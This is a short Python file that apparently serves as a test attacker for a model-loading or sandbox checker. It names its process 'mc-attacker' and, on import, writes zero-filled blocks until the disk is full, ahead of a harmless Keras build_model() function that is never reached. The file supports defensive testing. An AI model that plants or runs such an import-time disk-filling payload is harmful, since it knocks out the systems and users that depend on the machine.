"""Writes into its folder until the disk is full."""
import ctypes
import os


def _mark():
    """Name this process (and, by inheritance, its children) so the tests can find them."""
    ctypes.CDLL(None).prctl(15, b"mc-attacker", 0, 0, 0)  # PR_SET_NAME
    os.environ["MODELCHECK_TEST_ATTACKER"] = "1"

_mark()
with open("filler.bin", "wb") as out:
    while True:
        out.write(b"\0" * 2**20)


def build_model():
    import keras
    from keras import layers

    return keras.Sequential([keras.Input(shape=(4,)), layers.Dense(8, activation="relu"),
                             layers.Dense(3, activation="softmax")])

